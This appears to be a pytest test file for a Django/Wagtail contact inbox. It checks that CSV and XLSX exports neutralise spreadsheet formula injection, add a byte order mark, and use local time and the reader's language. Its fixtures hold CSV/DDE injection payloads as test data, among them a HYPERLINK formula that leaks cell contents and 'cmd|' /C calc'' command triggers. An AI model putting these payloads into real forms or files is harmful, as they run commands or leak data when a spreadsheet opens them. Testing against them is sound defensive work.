"""The inbox's exports: CSV that Excel on a Chinese Windows opens, XLSX, local times, the
reader's language, and no visitor's formula running in the reader's spreadsheet."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.contrib.auth.models import Group, Permission
from openpyxl import load_workbook
from wagtail.users.models import UserProfile

from pressroom.contact.models import ContactFormField, ContactMessage
from pressroom.security.roles import EDITORS
from tests.contact.test_admin import BEIJING_MORNING
from tests.factories import make_message

INDEX = "/admin/contact_message/"

# What visitors type, through the real form: every one passes its field's validation.
HOSTILE_POSTS = [
    {"name": '=HYPERLINK("http://x/?d="&A2,"Click")', "company": "@SUM(1+1)*cmd|' /C calc'!A0"},
    {"name": "+cmd|' /C calc'!A0", "message": "-2+3+cmd|' /C calc'!A0"},
    {"name": '＝HYPERLINK("http://x")', "company": "＠SUM(A1)", "message": "－1＋1"},
    {"name": "王芳", "phone": "+86 138 0000 0000", "message": "-5℃ 冷藏运输可以吗？"},
]
# Stored before the form refused them, or by a future import: tab, CR and LF first.
STORED_ONLY = ["\t=1+1", "\r=1+1", "\n=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ORDINARY = ["王芳", "杭州示例贸易有限公司", "138 0013 8000", "li.ming@example.net"]


@pytest.fixture
def hostile_messages(post_message, contact_page):
    for n, answers in enumerate(HOSTILE_POSTS):
        response = post_message(remote_addr=f"198.51.100.{n + 1}", **answers)
        assert response.status_code == 200, answers
    for n, value in enumerate(STORED_ONLY):
        ContactMessage.objects.create(
            page=contact_page,
            form_data={"name": value, "phone": "", "email": "a@example.net", "message": f"{n}"},
        )
    assert ContactMessage.objects.count() == len(HOSTILE_POSTS) + len(STORED_ONLY)
    return ContactMessage.objects.all()


@pytest.fixture
def reader(client, django_user_model, contact_page):
    """An editor who was given the permission to read messages (not a superuser)."""
    user = django_user_model.objects.create_user("sales", "sales@example.com", "pw")
    user.groups.add(Group.objects.get(name=EDITORS))
    user.user_permissions.add(Permission.objects.get(codename="view_contactmessage"))
    client.force_login(user)
    return client


def csv_cells(client, url=INDEX, query="") -> list[list[str]]:
    response = client.get(url + "?export=csv" + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def xlsx_sheet(client, url=INDEX, query=""):
    response = client.get(url + "?export=xlsx" + query)
    assert response.status_code == 200
    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


def xlsx_rows(client, query=""):
    return [[cell.value for cell in row] for row in xlsx_sheet(client, query=query).iter_rows()]


def typed_values() -> list[str]:
    values = [v for answers in HOSTILE_POSTS for v in answers.values()]
    return [v for v in values if v not in ORDINARY] + STORED_ONLY


def test_csv_cells_that_could_start_a_formula_are_neutralised(reader, hostile_messages):
    rows = csv_cells(reader)
    cells = [cell for row in rows[1:] for cell in row]
    for value in typed_values():
        assert "'" + value in cells, value
        assert value not in cells, value
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS)
    # The cost, as OWASP accepts it: a phone number written with + shows its apostrophe too.
    assert "'+86 138 0000 0000" in cells
    assert "王芳" in cells and "138 0013 8000" in cells  # ordinary text stays as it was


def test_xlsx_keeps_the_visitors_words_as_text_cells(reader, hostile_messages):
    sheet = xlsx_sheet(reader)
    strings = {}
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                strings[cell.value] = cell.data_type
    for value in [v for v in typed_values() if v.strip()]:
        # openpyxl reads leading whitespace back; the cell must hold the exact text, as text.
        matches = {text: kind for text, kind in strings.items() if text.strip() == value.strip()}
        assert matches, value
        assert set(matches.values()) == {"s"}, (value, matches)
    assert not any(text.startswith("'") for text in strings)  # no apostrophe needed in XLSX


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_form_field_label_that_looks_like_a_formula_is_neutralised(
    reader, post_message, contact_page, export_format
):
    """Labels are an editor's text, and the editor may not be the one who exports."""
    label = '=HYPERLINK("http://x","订单号")'
    ContactFormField.objects.create(
        page=contact_page,
        sort_order=10,
        label=label,
        clean_name="order",
        field_type="singleline",
        required=False,
    )
    assert post_message(order="A-1").status_code == 200
    if export_format == "csv":
        rows = csv_cells(reader)
        assert "'" + label in rows[0]
        assert rows[1][rows[0].index("'" + label)] == "A-1"  # other answers are exported too
    else:
        [heading] = [c for c in next(xlsx_sheet(reader).iter_rows()) if "订单号" in c.value]
        assert heading.data_type == "s"  # openpyxl writes a heading starting with = as a formula


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138 0000 0000", "'+86 138 0000 0000"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1", "'＝1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠x", "'＠x"),
        ("a=1", "a=1"),
        ("李明", "李明"),
        ("", ""),
        (None, None),
        (-5, -5),  # a number from our own fields is written as a number, never a formula
    ],
)
def test_neutralise_cell(value, expected):
    from pressroom.contact.admin_views import neutralise_cell

    assert neutralise_cell(value) == expected


# --- what a reader opening the file sees -------------------------------------------------------

ZH_HEADINGS = [
    "时间",
    "姓名",
    "公司",
    "电话",
    "邮箱",
    "产品",
    "留言内容",
    "状态",
    "垃圾留言",
    "销售备注",
]
EN_HEADINGS = [
    "Time",
    "Name",
    "Company",
    "Phone",
    "Email",
    "Product",
    "Message",
    "Status",
    "Spam",
    "Note",
]


@pytest.fixture
def two_messages(contact_page):
    make_message(contact_page, name="王芳", when=BEIJING_MORNING, note="已回电")
    make_message(
        contact_page,
        name="张伟",
        handled=True,
        delivery="sent",
        when=datetime(2026, 11, 20, 2, 0, tzinfo=UTC),
    )


def test_csv_starts_with_a_byte_order_mark_for_excel(reader, two_messages):
    response = reader.get(INDEX + "?export=csv")
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.count(b"\xef\xbb\xbf") == 1
    assert "王芳".encode() in body
    assert response["Content-Disposition"].startswith('attachment; filename="contact-messages-')


def test_exports_are_in_local_time_and_chinese(reader, two_messages):
    rows = csv_cells(reader)
    assert rows[0][: len(ZH_HEADINGS) - 3] == ZH_HEADINGS[:-3]
    assert set(ZH_HEADINGS) <= set(rows[0]) and "邮件通知" in rows[0]
    wang = dict(zip(rows[0], next(row for row in rows if "王芳" in row), strict=True))
    assert wang["时间"] == "2026-12-02 05:32:00"
    assert (wang["状态"], wang["垃圾留言"], wang["销售备注"]) == ("未处理", "否", "已回电")
    assert wang["邮件通知"] == "等待发送"
    zhang = dict(zip(rows[0], next(row for row in rows if "张伟" in row), strict=True))
    assert (zhang["状态"], zhang["邮件通知"]) == ("已处理", "已发送")

    sheet = xlsx_rows(reader)
    assert sheet[0][: len(ZH_HEADINGS) - 3] == ZH_HEADINGS[:-3]
    wang = dict(zip(sheet[0], next(row for row in sheet if "王芳" in row), strict=True))
    assert wang["时间"] == datetime(2026, 12, 2, 5, 32)  # a real date cell, in Beijing time
    assert wang["状态"] == "未处理"
    for row in sheet + rows:
        assert not {"True", "False", "None", True, False} & set(row), row


def test_an_english_reader_gets_english_headings_and_values(reader, two_messages):
    user = reader.get(INDEX).wsgi_request.user
    UserProfile.objects.update_or_create(user=user, defaults={"preferred_language": "en"})
    rows = csv_cells(reader)
    assert rows[0][: len(EN_HEADINGS) - 3] == EN_HEADINGS[:-3]
    wang = dict(zip(rows[0], next(row for row in rows if "王芳" in row), strict=True))
    assert (wang["Status"], wang["Spam"], wang["Time"]) == (
        "Not handled",
        "no",
        "2026-12-02 05:32:00",
    )
    assert xlsx_rows(reader)[0][0] == "Time"


def test_the_export_is_what_the_list_shows(reader, two_messages, contact_page):
    make_message(contact_page, name="垃圾", is_spam=True)
    names = [row[1] for row in csv_cells(reader)[1:]]
    assert sorted(names) == ["张伟", "王芳"]  # spam stays out, as in the list
    assert [row[1] for row in csv_cells(reader, query="&status=unhandled")[1:]] == ["王芳"]
    assert [row[1] for row in xlsx_rows(reader, query="&q=张")[1:]] == ["张伟"]
    assert [row[1] for row in csv_cells(reader, query="&status=spam")[1:]] == ["垃圾"]


def test_every_export_cell_is_neutralised(reader, contact_page):
    """The note and the page title are written by staff, and may not be harmless either."""
    make_message(contact_page, name="王芳", note="=1+1", message="@SUM(A1)")
    for row in csv_cells(reader):
        for cell in row:
            assert not cell.startswith(TRIGGERS), cell
    assert "'=1+1" in csv_cells(reader)[1]


def test_a_reader_who_chose_another_time_zone_gets_it_in_list_and_export(reader, two_messages):
    """The site's zone is everyone's default; Wagtail's account setting can change one's own."""
    user = reader.get(INDEX).wsgi_request.user
    UserProfile.objects.update_or_create(user=user, defaults={"current_time_zone": "UTC"})
    wang = dict(zip(*[csv_cells(reader)[0], csv_cells(reader)[1]], strict=True))
    assert wang["时间"] == "2026-12-01 21:32:00"
    assert "2026-12-01 21:32" in reader.get(INDEX).content.decode()
